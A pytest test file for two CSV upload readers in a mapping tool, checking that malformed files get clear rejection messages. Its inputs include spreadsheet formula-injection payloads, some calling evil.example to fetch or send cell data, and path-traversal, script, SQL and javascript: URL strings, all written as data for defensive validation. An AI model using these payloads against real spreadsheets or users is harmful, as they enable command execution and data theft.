"""Malformed uploads: every one gives a clear message (file-level, or per row with line and reason), none raises,
none is accepted silently.

Two readers take user files: the map's "your own data" (``upload.read_upload``) and the cluster-partnership import
(``escp.read_members_csv``). The cases are generated: encodings, binary files, missing columns, huge values and
strings, spreadsheet formulas in every text column, broken CSV structure, and a 50 MB file.
"""

from __future__ import annotations

import codecs
import gzip
import random

import pytest

from mapping import escp, upload

FORMULAS = [
    "=cmd()",
    "=cmd|' /C calc'!A0",
    "+cmd()",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    "=1+1",
    '=WEBSERVICE("http://evil.example")',
    "\t=cmd()",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
]
# A name with characters outside ASCII in each encoding, so the bytes are not UTF-8.
NAMES = {
    "utf-16": "München",
    "utf-16-le": "München",
    "utf-16-be": "München",
    "utf-32": "München",
    "cp1252": "Île-de-France “centre”",
    "latin-1": "Île-de-France",
    "cp437": "Düsseldorf",
    "shift_jis": "東京都",
    "koi8-r": "Москва",
}
ENCODINGS = list(NAMES)
COUNTRIES = {"DE", "FR", "ES", "SE", "PL", "IT"}


def _rows(n: int, *, label: str = "Region") -> str:
    return "".join(f"DE{i % 10}{i % 7},{i},{label} {i}\n" for i in range(1, n + 1))


# ---------------------------------------------------------------------------------------------------- map upload


def map_cases() -> list[tuple[str, bytes, str]]:
    """(name, file bytes, text the message or a row reason must contain)."""
    cases: list[tuple[str, bytes, str]] = []
    header = "code,value,name\n"
    for f in FORMULAS:
        cell = '"' + f.replace('"', '""') + '"'
        cases.append((f"formula in label {f!r}", (header + f"DE21,1,{cell}\n").encode(), "formula"))
        cases.append((f"formula in code {f!r}", (header + f"{cell},1,x\n").encode(), "not a NUTS code"))
        cases.append((f"formula in value {f!r}", (header + f"DE21,{cell},x\n").encode(), "not a number"))
    for enc in ENCODINGS:
        data = (header + f"DE21,1,{NAMES[enc]}\n").encode(enc)
        cases.append((f"encoding {enc}", data, "binary" if b"\x00" in data else "not UTF-8"))
    cases.append(("utf-8 with BOM and bad bytes", codecs.BOM_UTF8 + b"code,value\nDE21,1\xff\xfe\n", "not UTF-8"))
    rng = random.Random(7)
    for i in range(20):
        cases.append((f"random bytes {i}", bytes(rng.randrange(256) for _ in range(3000)), ""))
    cases += [
        ("gzip file", gzip.compress(b"code,value\nDE21,1\n"), ""),
        ("xlsx (zip) file", b"PK\x03\x04\x14\x00\x06\x00" + bytes(400), "binary"),
        ("pdf file", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", ""),
        ("png file", b"\x89PNG\r\n\x1a\n" + bytes(200), "binary"),
        ("empty", b"", "empty"),
        ("only spaces", b"   \n  \n", "header"),
        ("only a header", b"code,value\n", "No usable rows"),
        ("one column", b"code\nDE21\n", "Only one column"),
        ("no known columns", b"foo,bar\n1,2\n", "No usable columns"),
        ("code without value", b"code,name\nDE21,x\n", ""),
        ("lat without lon", b"lat,value\n50,1\n", "No usable columns"),
        ("lon without lat", b"lon,value\n10,1\n", "No usable columns"),
        ("header only separators", b",,,\n1,2,3,4\n", "No usable columns"),
        ("blank header line", b"\ncode,value\nDE21,1\n", "header"),
        ("ragged rows", b"code,value\nDE21,1,extra\nDE22\n", "fields, header has"),
        ("unclosed quote", b'code,value\nDE21,"1\nDE22,2\n', ""),
        ("NUL after 4 KB", b"code,value\n" + b"DE21,1\n" * 700 + b"DE22,\x002\n", ""),
        ("duplicate codes", b"code,value\nDE21,1\nDE21,2\n", "duplicate"),
        ("lowercase garbage codes", b"code,value\n../../etc/passwd,1\n", "not a NUTS code"),
        ("html in code", b"code,value\n<script>alert(1)</script>,1\n", "not a NUTS code"),
        ("sql in code", b"code,value\nDE21' OR '1'='1,1\n", "not a NUTS code"),
        ("value with unit", b"code,value\nDE21,12 kg\n", "not a number"),
        ("value 1e16", b"code,value\nDE21,1e16\n", "out of range"),
        ("value -1e16", b"code,value\nDE21,-1e16\n", "out of range"),
        ("value 1e400", b"code,value\nDE21,1e400\n", "out of range"),
        ("value inf", b"code,value\nDE21,inf\n", "out of range"),
        ("value -Infinity", b"code,value\nDE21,-Infinity\n", "out of range"),
        ("value with 400 digits", b"code,value\nDE21," + b"9" * 400 + b"\n", "out of range"),
        ("value hex", b"code,value\nDE21,0x1F\n", "not a number"),
        ("1 MB code cell", b"code,value\n" + b"D" * 1_000_000 + b",1\n", ""),
        ("100 kB label", b"code,value,name\nDE21,1," + b"x" * 100_000 + b"\n", "longer than"),
        (
            "10,000 columns",
            (",".join(["code", "value"] + [f"c{i}" for i in range(10_000)]) + "\nDE21,1\n").encode(),
            "",
        ),
        ("more rows than allowed", b"code,value\n" + b"DE21,1\n" * (upload.MAX_ROWS + 5), ""),
        ("latitude 91", b"lat,lon\n91,10\n", "latitude"),
        ("longitude -181", b"lat,lon\n50,-181\n", "longitude"),
        ("latitude text", b"lat,lon\nnorth,10\n", "latitude"),
        ("lat/lon swapped far", b"lat,lon\n500,500\n", "latitude"),
        ("semicolon file with bad decimal", b"code;value\nDE21;1,2,3\n", "not a number"),
        ("mixed delimiters", b"code,value\nDE21;1\n", "fields, header has"),
        ("only blank rows", b"code,value\n,\n,\n", "No usable rows"),
        ("50 MB file", b"code,value\n" + b"DE21,1\n" * (50 * 2**20 // 7), "MB limit"),
        ("just over 20 MB", b"code,value\n" + b"x" * (upload.MAX_BYTES + 1), "MB limit"),
    ]
    return cases


MAP_CASES = map_cases()


def clear_map_message(result: upload.Upload) -> str:
    reasons = " | ".join(result.errors["reason"].astype(str)) if len(result.errors) else ""
    return f"{result.message} | {reasons}"


@pytest.mark.parametrize("name,data,expected", MAP_CASES, ids=[c[0] for c in MAP_CASES])
def test_map_upload_gives_a_clear_message(name, data, expected):
    result = upload.read_upload(data)
    said = clear_map_message(result)
    assert said.strip(" |"), f"{name}: accepted without a word"
    assert expected.lower() in said.lower(), f"{name}: {said[:300]}"
    if len(result.errors):
        assert result.errors["line"].notna().all() and (result.errors["reason"].str.len() > 0).all()


# ------------------------------------------------------------------------------------------- partnership import


def member_row(**overrides: str) -> dict[str, str]:
    row = {c: "" for c in escp.MEMBER_COLUMNS}
    row.update(
        programme="ESCP-4x",
        generation="1st wave",
        partnership_acronym="TEST",
        partnership_name="Test partnership",
        member_organisation="Cluster Org",
        member_country="SE",
        role="partner",
        source_url="https://www.clustercollaboration.eu/test",
        completeness="partial",
    )
    row.update(overrides)
    return row


def members_csv(rows: list[dict[str, str]], columns: list[str] | None = None) -> bytes:
    import csv
    import io

    columns = columns or escp.MEMBER_COLUMNS
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(columns)
    for r in rows:
        writer.writerow([r.get(c, "") for c in columns])
    return buf.getvalue().encode()


def escp_cases() -> list[tuple[str, bytes, str]]:
    cases: list[tuple[str, bytes, str]] = []
    for col in ("member_organisation", "partnership_name", "role", "note"):
        for f in FORMULAS:
            cases.append((f"formula in {col} {f!r}", members_csv([member_row(**{col: f})]), "formula"))
    for col in escp.REQUIRED_COLUMNS:
        columns = [c for c in escp.MEMBER_COLUMNS if c != col]
        cases.append((f"missing column {col}", members_csv([member_row()], columns), f"Missing column(s): {col}"))
    for enc in ENCODINGS:
        data = members_csv([member_row(member_organisation=NAMES[enc])]).decode().encode(enc)
        cases.append((f"encoding {enc}", data, "binary" if b"\x00" in data else "not UTF-8"))
    rng = random.Random(11)
    for i in range(15):
        cases.append((f"random bytes {i}", bytes(rng.randrange(256) for _ in range(2000)), ""))
    for value in ["X", "SWE", "se", "Sweden", "ZZ", "=SE", "S E", "12"]:
        cases.append((f"country {value!r}", members_csv([member_row(member_country=value)]), "country"))
    for url in ["javascript:alert(1)", "file:///etc/passwd", "ftp://x", "www.example.com", "http://a b", "=cmd()"]:
        cases.append((f"source_url {url!r}", members_csv([member_row(source_url=url)]), "http(s)"))
    for value in ["complete", "FULL", "yes", "=1"]:
        cases.append((f"completeness {value!r}", members_csv([member_row(completeness=value)]), "one of"))
    for col in ("programme", "partnership_acronym", "source_url"):
        cases.append((f"empty {col}", members_csv([member_row(**{col: ""})]), "must not be empty"))
    cases += [
        ("empty", b"", "empty"),
        ("header only", members_csv([]), "No usable rows"),
        ("wrong header", b"a,b,c\n1,2,3\n", "Missing column(s)"),
        ("xlsx", b"PK\x03\x04" + bytes(300), "binary"),
        ("extra field", members_csv([member_row()]).rstrip(b"\n") + b",extra\n", "fields, header has"),
        ("missing field", b"\n".join([*members_csv([member_row()]).split(b"\n")[:1], b"ESCP-4x,x"]), "fields"),
        ("unclosed quote", members_csv([member_row()]) + b'"ESCP-4x,unclosed\n', ""),
        ("huge cell", members_csv([member_row(note="x" * 200_000)]), "cannot parse"),
        ("50 MB file", members_csv([member_row()] * 200_000) + b"x" * (50 * 2**20), "MB limit"),
        ("just over 5 MB", b"x" * 5_000_001, "MB limit"),
    ]
    return cases


ESCP_CASES = escp_cases()


@pytest.mark.parametrize("name,data,expected", ESCP_CASES, ids=[c[0] for c in ESCP_CASES])
def test_partnership_import_gives_a_clear_message(name, data, expected):
    result = escp.read_members_csv(data, known_countries=COUNTRIES)
    reasons = " | ".join(result.errors["reason"].astype(str)) if len(result.errors) else ""
    said = f"{result.message} | {reasons}"
    assert said.strip(" |"), f"{name}: accepted without a word"
    assert expected.lower() in said.lower(), f"{name}: {said[:300]}"


def test_there_are_at_least_200_malformed_uploads():
    assert len(MAP_CASES) + len(ESCP_CASES) >= 200


def test_a_good_file_is_still_accepted():
    """The cases above fail for their fault, not because the readers refuse everything."""
    ok = upload.read_upload(b"code,value,name\nDE21,1.5,Oberbayern\n")
    assert ok.kind == "regions" and ok.message == "" and ok.errors.empty
    members = escp.read_members_csv(members_csv([member_row()]), known_countries=COUNTRIES)
    assert len(members.frame) == 1 and members.errors.empty and members.message == ""


# ------------------------------------------------------------------ uploads in linear time and bounded memory


@pytest.mark.timeout(60)  # a guard: the quadratic header lookup took over two minutes for 150,000 columns
def test_a_header_of_150000_columns_is_refused_by_its_width():
    header = "code,value," + ",".join(f"c{i}" for i in range(3, 150_001))
    result = upload.read_upload((header + "\nDE21,1" + ",x" * 149_998 + "\n").encode())
    assert result.kind is None
    assert "150,000 columns" in result.message and f"at most {upload.MAX_COLUMNS}" in result.message


def test_a_header_of_two_million_columns_is_refused_too():
    data = ("code,value," + ",".join("c" for _ in range(2_000_000))).encode()[: upload.MAX_BYTES]
    result = upload.read_upload(data)
    assert result.kind is None and "columns" in result.message


@pytest.mark.timeout(120)
def test_twenty_megabytes_of_bad_rows_keep_a_bounded_error_list():
    data = b"code,value\n" + b"!,1\n" * ((upload.MAX_BYTES - 20) // 4)
    result = upload.read_upload(data)
    assert len(result.errors) == upload.MAX_ERRORS  # the first ones, each with its line ...
    assert result.n_errors == upload.MAX_ROWS + 1  # ... and how many in all: reading stops after MAX_ROWS rows
    assert f"{result.n_errors:,}" in result.message and "first" in result.message
    assert list(result.errors["line"][:2]) == [2, 3]


def test_partnership_import_errors_are_bounded_too():
    header = ",".join(escp.TEMPLATE_COLUMNS) + "\n"
    data = (header + "x,,,,,,,,,,,\n" * 200_000).encode()
    result = escp.read_members_csv(data, known_countries=COUNTRIES, max_bytes=len(data) + 1)
    assert len(result.errors) == escp.MAX_ERRORS and result.n_errors > escp.MAX_IMPORT_ROWS
    assert f"{result.n_errors:,}" in result.message
